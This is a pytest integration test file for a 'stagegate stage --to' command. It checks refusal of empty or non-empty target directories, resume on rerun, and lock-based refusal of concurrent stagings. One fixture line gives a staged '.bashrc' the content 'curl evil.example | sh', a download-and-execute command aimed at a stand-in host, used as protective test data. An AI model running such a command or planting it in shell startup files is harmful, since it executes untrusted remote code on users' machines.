"""`stagegate stage --to DIR` as real processes: one staging per directory at a time, never
into the current directory by an empty name, never over files stagegate did not put there."""

import fcntl
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from integration.helpers import STAGEGATE, assert_staged, payload, snapshot, write_tree
from stagegate.transfer.layout import state_dir_of

pytestmark = pytest.mark.integration

PUBLIC = {".classification": b"public\n"}
FILES = {".bashrc": b"curl evil.example | sh\n", "data/big.bin": payload("big", 512 << 10)}
NO_BAR = ["--no-progress"]


def run(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([STAGEGATE, *args], capture_output=True, text=True, cwd=cwd, timeout=120)


@pytest.fixture
def source(tmp_path: Path) -> Path:
    return write_tree(tmp_path / "src", {**FILES, **PUBLIC})


def test_an_empty_to_is_refused_and_the_current_directory_left_alone(source: Path, tmp_path: Path) -> None:
    home = write_tree(tmp_path / "home", {".bashrc": b"export PS1='$ '\n"})
    before = snapshot(home)
    proc = run("stage", str(source), "--to", "", *NO_BAR, cwd=home)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "--to" in proc.stderr and "is empty" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert snapshot(home) == before


def test_a_directory_holding_files_stagegate_did_not_put_there_is_refused(
    source: Path, tmp_path: Path
) -> None:
    home = write_tree(tmp_path / "home", {".bashrc": b"export PS1='$ '\n", "thesis.tex": b"years of work"})
    before = snapshot(home)
    proc = run("stage", str(source), "--to", str(home), *NO_BAR)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "not empty" in proc.stderr and "choose an empty or new directory" in proc.stderr
    assert snapshot(home) == before

    proc = run("stage", str(source), "--to", ".", *NO_BAR, cwd=home)  # the same, spelled "."
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert snapshot(home) == before


def test_a_rerun_into_an_earlier_stagings_directory_still_resumes(source: Path, tmp_path: Path) -> None:
    dest = tmp_path / "dest"
    for _ in range(2):
        proc = run("stage", str(source), "--to", str(dest), *NO_BAR)
        assert proc.returncode == 0, proc.stderr
    assert "already present and verified 2" in proc.stdout
    assert_staged(dest, FILES)


def _wait_until_copying(dest: Path, first: subprocess.Popen[str]) -> None:
    """Until the first staging holds the lock and is copying: past planning, so stopping it
    leaves no ledger transaction open that the second would queue behind."""
    lock, tmp = state_dir_of(dest) / "lock", state_dir_of(dest) / "tmp"
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        assert first.poll() is None, f"the first staging ended early: {first.communicate()}"
        held = lock.is_file() and lock.read_text().strip() == str(first.pid)
        if held and tmp.is_dir() and any(name.endswith(".part") for name in os.listdir(tmp)):
            return
        time.sleep(0.05)
    raise AssertionError(f"the first staging never took {lock} and started copying")


def test_a_second_staging_into_the_same_place_fails_at_once_naming_the_first(
    source: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    # Slow enough that it is still copying when we stop it; stopped, it holds the lock for sure.
    first = subprocess.Popen(
        [STAGEGATE, "stage", str(source), "--to", str(dest), "--bandwidth", "64KB", *NO_BAR],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        lock = state_dir_of(dest) / "lock"
        _wait_until_copying(dest, first)
        os.kill(first.pid, signal.SIGSTOP)
        fd = os.open(lock, os.O_RDONLY)
        try:
            with pytest.raises(BlockingIOError):
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)  # held by the stopped first staging
        finally:
            os.close(fd)

        second = run("stage", str(source), "--to", str(dest), *NO_BAR)

        assert second.returncode == 1, second.stdout + second.stderr
        assert f"another staging (pid {first.pid}) is writing into {dest}" in second.stderr
        assert "Traceback" not in second.stderr
    finally:
        os.kill(first.pid, signal.SIGCONT)
    _, err = first.communicate(timeout=120)
    assert first.returncode == 0, err
    assert_staged(dest, FILES)  # the first staging's bytes, verified, untouched by the second
